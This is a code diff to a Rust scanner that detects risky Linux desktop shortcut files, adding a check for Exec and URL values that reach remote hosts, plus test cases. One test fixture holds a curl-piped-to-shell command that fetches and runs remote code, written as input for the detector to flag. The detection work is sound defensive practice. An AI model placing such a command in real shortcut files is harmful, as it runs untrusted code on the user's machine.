@@ -3,7 +3,7 @@
 use super::address::{Leads, leads};
 use super::commands;
 use super::signs::Signs;
-use crate::kinds::programs;
+use crate::kinds::{programs, types};
 use crate::walk::{Inside, Part};
 use crate::xml::{self, Step};
 use crate::{FileType, Limit, Location, Reason, text};
@@ -87,9 +87,13 @@ fn desktop(text: &str, signs: &mut Signs) {
                 match (shell, lure) {
                     (true, true) => signs.add(&programs::SHORTCUT_COMMAND, place, value),
                     (false, true) => signs.add(&programs::SHORTCUT_TO_RUNNER, place, value),
+                    _ if value.split_whitespace().any(|word| leads(word.trim_matches(['"', '\''])).far()) => {
+                        signs.add(&types::FAR_SHORTCUT, place, value);
+                    }
                     _ => signs.add(&programs::SHORTCUT_TARGET, place, value),
                 }
             }
+            "url" if leads(value).far() => signs.add(&types::FAR_SHORTCUT, place, value),
             "url" => signs.add(&programs::SHORTCUT_TARGET, place, value),
             _ => {}
         }
@@ -201,6 +205,9 @@ mod tests {
                 "shortcut-target shortcut-far-icon",
             ),
             (FileType::DesktopEntry, "[Desktop Entry]\nExec=gedit %f".to_owned(), "shortcut-target"),
+            (FileType::DesktopEntry, "Exec=firefox \"https://example.vn\"".to_owned(), "far-shortcut"),
+            (FileType::DesktopEntry, "Type=Link\nURL=smb://10.0.0.1/a".to_owned(), "far-shortcut"),
+            (FileType::DesktopEntry, "Type=Link\nURL=/usr/share/doc".to_owned(), "shortcut-target"),
             (FileType::DesktopEntry, "Exec=sh -c 'curl http://a | sh'".to_owned(), "shortcut-runs-command"),
             (FileType::SearchConnector, search("https://example.vn/a"), "far-folder"),
             (FileType::SearchConnector, search("C:\\a"), ""),
